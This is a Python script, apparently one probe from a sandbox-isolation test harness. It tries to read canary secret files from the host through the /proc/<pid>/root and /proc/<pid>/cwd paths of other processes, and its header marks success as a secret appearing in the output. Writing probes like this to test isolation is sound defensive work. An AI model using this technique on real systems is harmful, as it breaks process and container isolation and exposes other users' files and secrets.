# tries: to reach the host's files through the root and working folders of other processes
# escape: a secret is in the output
# control: outside
import glob
import os

from attack import note, show, targets


def read(path):
    with open(path) as file:
        return file.read()


processes = {
    "/proc/1",
    f"/proc/{os.getppid()}",
    f"/proc/{targets['victim']}",
    "/proc/self",
    *glob.glob("/proc/[0-9]*"),
}
for process in sorted(processes)[:40]:
    for place, path in targets["canaries"].items():
        show(f"{process}/root, {place}", lambda path=path, process=process: read(f"{process}/root{path}"))
    try:
        if "canary.txt" in os.listdir(f"{process}/cwd"):
            show(f"{process}/cwd", lambda process=process: read(f"{process}/cwd/canary.txt"))
    except OSError as error:
        note(f"{process}/cwd: {error}")
